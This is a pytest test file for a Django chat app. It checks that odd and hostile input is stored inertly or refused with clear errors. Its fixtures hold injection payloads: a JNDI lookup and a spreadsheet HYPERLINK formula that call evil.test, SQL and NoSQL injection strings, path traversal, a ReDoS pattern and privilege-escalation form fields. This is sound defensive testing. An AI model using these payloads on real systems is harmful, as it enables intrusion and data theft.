"""What people and programs should not send, at every field: a clear sentence, the right status, nothing stored by half.

*Keeps true*: what is kept is kept exactly; what is refused leaves no row; the draft comes back. What never reaches a
form is in tests/config/test_edge.py, what reaches only Markdown in tests/chat/test_markdown.py, names and addresses in
tests/workspace/test_coming_in.py.
"""

import json
import uuid
from typing import Any
from urllib.parse import quote

import pytest
from django.http import HttpResponse
from django.test import Client
from django.urls import reverse
from django.utils import timezone

from chat import feed
from chat.models import Mention, Message, Reply
from tests.workspace.actors import World
from workspace.models import Member, Space, User

JSON = {"Accept": "application/json"}
PASSWORD = "correct horse battery"


def post(
    world: World, text: str | bytes, actor: str = "member", *, as_json: bool = True, **fields: Any
) -> HttpResponse:
    """Post a message into the private Space, as a form."""
    path = reverse("messages", args=[world.private.space.pk])
    headers = JSON if as_json else {"Accept": "text/html"}
    return world.client(actor).post(path, {"text": text, **fields}, headers=headers)


def raw(world: World, body: bytes, content_type: str) -> HttpResponse:
    path = reverse("messages", args=[world.private.space.pk])
    return world.client("member").generic("POST", path, body, content_type=content_type, headers=JSON)


def sentence(answer: HttpResponse) -> str:
    error = answer.json()["error"]
    assert set(error) >= {"code", "sentence"}
    return str(error["sentence"])


def page(answer: HttpResponse) -> str:
    return answer.content.decode()


# --- text of messages ---------------------------------------------------------------------------

EXACT = {
    "angstrom": "Å Å Å",
    "ligature": "ﬁle",
    "family": "👨\u200d👩\u200d👧\u200d👦",
    "sharp s": "ẞ ß SS",
    "tags": "flag \U000e0041\U000e0042",
    "one wide sign": "﷽",
    "letters of mathematics": "𝓗𝓮𝓵𝓵𝓸",
    "thai": "กำ",
    "jamo": "가가",
    "separators": "one\u2028two\u2029three",
    "old controls": "a\x85b\x0bc\x0cd",
    "terminal": "\x1b[31mred\x1b[0m",
    "zalgo": "Z" + "\u0337\u0322\u0347\u0355" * 2000,
    "joined women": "\U0001f469\u200d" * 4000,
    "right to left": "\u202egnp.exe \u2067evil\u2069",
    "template": "{{7*7}} {% debug %} ${7*7} <%= 7*7 %> %(password)s %s%s%n ${jndi:ldap://evil.test}",
    "at the limit": "a" * 10_000,
    "emoji at the limit": "💩" * 10_000,
    "only newlines around": "\n\n  x\n\n",
    "formula": '=HYPERLINK("https://evil.test?"&A1,"x")',
}


@pytest.mark.parametrize("text", EXACT.values(), ids=EXACT)
def test_odd_text_is_kept_as_it_is(text: str, world: World) -> None:
    answer = post(world, text)

    assert answer.status_code == 201
    kept = Message.objects.get(pk=answer.json()["messages"][0]["id"]).text
    assert kept == text.strip("\n ").rstrip()
    assert "49" not in answer.json()["messages"][0]["html"].partition("message__body")[2].partition("</div>")[0]


BLANK = [
    "",
    " ",
    "\t\n",
    "\u00a0",
    "\u200b\u200c\u200d\u2060\ufeff",
    "\u2800",
    "\u00ad",
    "\u115f\u1160",
    "\x01\x02\b",
    "\u061c",
]


@pytest.mark.parametrize("text", BLANK)
def test_text_that_nobody_can_see_is_refused_as_empty(text: str, world: World) -> None:
    before = Message.objects.count()

    answer = post(world, text)

    assert answer.status_code == 422
    assert "empty" in sentence(answer)
    assert Message.objects.count() == before


def test_nul_is_refused_in_words(world: World) -> None:
    answer = post(world, "a\x00b")

    assert (answer.status_code, "NUL" in sentence(answer)) == (422, True)


@pytest.mark.parametrize(
    "garbled", [b"\xff\xfe\xfd", b"\xc0\xaf", b"\xed\xa0\x80", "café".encode("latin-1"), "{}".encode("utf-16")]
)
def test_bytes_that_are_no_utf8_are_refused_and_nothing_is_stored(garbled: bytes, world: World) -> None:
    before = Message.objects.count()
    form = "application/x-www-form-urlencoded"

    answers = [raw(world, b"text=" + garbled, form), raw(world, b"text=" + quote(garbled).encode(), form)]

    assert [answer.status_code for answer in answers] == [400, 400]
    assert "UTF-8" in sentence(answers[0])
    assert Message.objects.count() == before


@pytest.mark.parametrize("length", [10_001, 100_000, 300_000])
def test_text_past_the_limit_says_both_numbers_or_at_least_the_limit_and_comes_back_whole(
    length: int, world: World
) -> None:
    text = "wörd " * (length // 5) + "x" * (length % 5)

    by_script, by_form = post(world, text), post(world, text, as_json=False)

    assert (by_script.status_code, by_form.status_code) == (413, 413)
    assert "10,000" in sentence(by_script)
    assert text in page(by_form)
    assert not Message.objects.filter(text__startswith="wörd").exists()


def test_a_body_past_every_limit_is_refused_in_words(world: World) -> None:
    answer = post(world, "a" * 600_000)

    assert (answer.status_code, "too large" in sentence(answer)) == (413, True)


# --- bodies that are no forms, and fields that nobody asked for ---------------------------------

BODIES = ["{", "null", "[]", '"x"', "1", '{"text":Infinity}', '{"text":"a","text":"b"}', '{"text":["a"]}']
BODIES += ['{"text":{"a":1}}', '{"text":true}', '{"__proto__":{"a":1}}', "// c\n{}", '{"text":"\\ud800"}']
BODIES += ["[" * 50_000 + "]" * 50_000, '{"a":' * 20_000 + "1" + "}" * 20_000]


@pytest.mark.parametrize("body", BODIES, ids=range(len(BODIES)))
@pytest.mark.parametrize(
    "kind", ["application/json", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x"]
)
def test_a_body_that_is_no_form_is_refused_in_words_for_programs(body: str, kind: str, world: World) -> None:
    before = Message.objects.count()

    answer = raw(world, body.encode(), kind)

    assert answer.status_code in ({415} if kind in ("application/json", "text/plain") else {400, 422})
    assert sentence(answer)
    assert Message.objects.count() == before


def test_fields_that_a_form_does_not_ask_for_change_nothing(world: World) -> None:
    foreign = world.foreign
    theirs = {"org": foreign.space.org_id, "author": foreign.bystander.pk, "space": foreign.space.pk, "position": 1}
    extra = {**theirs, "revision": 1, "html": "<b>", "state": "finished", "created_at": "1970-01-01", "cost_ucr": 0}

    answer = post(world, "mine", **extra)
    world.client("space_owner").post(
        reverse("space_edit", args=[world.private.space.pk]),
        {"name": "Still ours", "private": "on", "org": foreign.space.org_id, "kind": "direct", "revision": 0},
    )
    signup = {
        "name": "Pat",
        "email": "pat@people.example.com",
        "password1": PASSWORD,
        "is_operator": "on",
        "is_staff": "on",
    }
    world.client("anonymous").post(
        reverse("account_signup"), {**signup, "id": world.users["org_owner"].pk, "is_superuser": "on"}
    )

    message = Message.objects.get(pk=answer.json()["messages"][0]["id"])
    assert (message.org_id, message.space_id) == (world.org.pk, world.private.space.pk)
    assert message.author and message.author.user_id == world.users["member"].pk
    assert message.position > 1 and message.html == "<p>mine</p>\n" and message.created_at.year > 1970
    space = Space.objects.get(pk=world.private.space.pk)
    assert (space.org_id, space.kind, space.name) == (world.org.pk, "space", "Still ours")
    pat = User.objects.get(email="pat@people.example.com")
    assert not pat.is_operator and pat.is_active and pat.members.count() == 0


# --- ids, numbers, searches ---------------------------------------------------------------------

IDS = [
    "0",
    "-1",
    "1",
    "999999999999",
    str(uuid.UUID(int=0)),
    "not-a-uuid",
    "1;2",
    "1,2",
    '{"$gt":""}',
    "1 OR 1=1",
    "null",
    "me",
]
IDS += ["1%0a", "١", "..%2f..%2fadmin", "%00", "a" * 500]


@pytest.mark.parametrize("bad", IDS)
def test_an_id_that_is_none_is_missing_in_a_path_and_refused_in_a_field(bad: str, world: World) -> None:
    browser, owner = world.client("member"), world.client("space_owner")
    unknown = browser.get(f"/spaces/{uuid.uuid4()}/", headers=JSON)
    segment = bad if "%" in bad else quote(bad, safe="")

    for path in (
        f"/spaces/{segment}/",
        f"/messages/{segment}/",
        f"/replies/{segment}/",
        f"/join/{segment}/",
        f"/orgs/{segment}/",
    ):
        answer = browser.get(path, headers=JSON)
        assert (answer.status_code, answer.content) == (404, unknown.content), path
    add = owner.post(reverse("space_members", args=[world.private.space.pk]), {"member": bad}, headers=JSON)
    invite = {"space": bad, "role": "member", "days": "7", "uses": "1"}
    invited = world.client("org_owner").post(reverse("invite", args=[world.org.slug]), invite)
    assert {add.status_code, invited.status_code} <= {404, 422}
    assert post(world, "hello", client_id=bad).status_code == (201 if bad == str(uuid.UUID(int=0)) else 422)


NUMBERS = [
    "-1",
    "-0",
    "NaN",
    "1e3",
    "18446744073709551616",
    "0x10",
    "1_000",
    "٣",
    "1,5",
    "1.0",
    "0.1+0.2",
    "+7",
    "7;8",
    "true",
    "null",
]
NUMBERS += ["9" * 5000, "1 OR 1=1", "\x00"]


@pytest.mark.parametrize("bad", NUMBERS)
def test_a_number_that_is_none_is_refused_in_words(bad: str, world: World) -> None:
    browser, space = world.client("member"), world.private.space.pk
    asked = [("messages", "before"), ("messages", "after"), ("changes", "since")]

    answers = [browser.get(reverse(name, args=[space]), {field: bad}, headers=JSON) for name, field in asked]
    form = {"space": world.public.space.pk, "role": "member", "days": "7", "uses": "1"}
    invite = reverse("invite", args=[world.org.slug])
    forms = [world.client("org_owner").post(invite, {**form, field: bad}) for field in ("days", "uses")]

    assert [answer.status_code for answer in answers + forms] == [422] * 5
    assert all("whole numbers" in sentence(answer) for answer in answers)


def test_numbers_at_the_edges_are_answered(world: World) -> None:
    browser, space = world.client("member"), world.private.space.pk

    for name, field in (("messages", "before"), ("messages", "after"), ("changes", "since")):
        for good in ("0", "1", "2147483648", str(2**62), ""):
            assert browser.get(reverse(name, args=[space]), {field: good}, headers=JSON).status_code == 200


SEARCHES = [
    "'",
    '"',
    "' OR '1'='1",
    "%",
    "_",
    "%%%",
    ":*",
    "!",
    "&",
    "|",
    "a' & 'b",
    "\\",
    "NOT",
    '"unclosed',
    "$where",
    "../",
    "*:*",
]
SEARCHES += [
    "__class__",
    "password__startswith=a",
    "_connector=OR 1=1",
    "\x00",
    "a\x00b",
    "@" * 900,
    "(((((a+)+)+)+)+)+$",
    "\ud7ff" * 900,
]


@pytest.mark.parametrize("query", SEARCHES)
def test_a_search_is_text_and_finds_nobody_by_wildcard(query: str, world: World) -> None:
    answer = world.client("member").get(reverse("mentionables", args=[world.public.space.pk]), {"q": query})

    assert answer.status_code == 200
    found = answer.json()["mentionables"]
    assert len(found) <= 12
    assert found == [] or not query.strip("\x00")


# --- mentions -----------------------------------------------------------------------------------


def test_mentions_past_the_limit_are_refused_and_unknown_ones_stay_text(world: World) -> None:
    handle = Member.objects.get(user=world.users["space_owner"]).handle

    refused, kept = post(world, f"@{handle} " * 400), post(world, "@everybody " * 800)

    assert (refused.status_code, "50 times" in sentence(refused)) == (422, True)
    message = Message.objects.get(pk=kept.json()["messages"][0]["id"])
    assert message.text == ("@everybody " * 800).strip()
    assert not Mention.objects.filter(message=message).exists()


def test_whom_the_author_may_not_see_cannot_be_mentioned(world: World) -> None:
    foreign = world.foreign.bystander.handle
    outside = world.public.bystander.handle  # in the organization, but not in this private Space
    model = world.private.queued.ai_model
    model.offers.update(withdrawn_at=timezone.now())
    before = Reply.objects.count()

    answer = post(world, f"@{foreign} and @{outside} and @{model.handle} and <@M:{world.foreign.bystander.pk}>")

    assert answer.status_code == 201
    message = Message.objects.get(pk=answer.json()["messages"][0]["id"])
    assert "<@" not in message.text.split(" and ")[0] and f"@{outside}" in message.text
    assert 'class="mention"' not in message.html
    assert (Mention.objects.filter(message=message).count(), Reply.objects.count()) == (0, before)


def test_a_stale_form_says_so_and_does_nothing(world: World) -> None:
    strict = Client(enforce_csrf_checks=True)
    strict.cookies["parley"] = world.cookies["member"]
    path, before = reverse("messages", args=[world.private.space.pk]), Message.objects.count()

    by_form = strict.post(path, {"text": "hello", "csrfmiddlewaretoken": "x" * 64})
    by_script = strict.post(path, {"text": "hello"}, headers=JSON)
    elsewhere = strict.post(path, {"text": "hello"}, headers={"Origin": "https://evil.test"})

    assert [answer.status_code for answer in (by_form, by_script, elsewhere)] == [403] * 3
    assert "stale" in page(by_form) and json.loads(by_script.content)["error"]["code"] == "stale_form"
    assert Message.objects.count() == before


def test_the_longest_text_is_one_more_than_fits_by_one(world: World) -> None:
    answers = [post(world, "x" * (feed.TEXT_MAX + more)) for more in (0, 1)]

    assert [answer.status_code for answer in answers] == [201, 413]
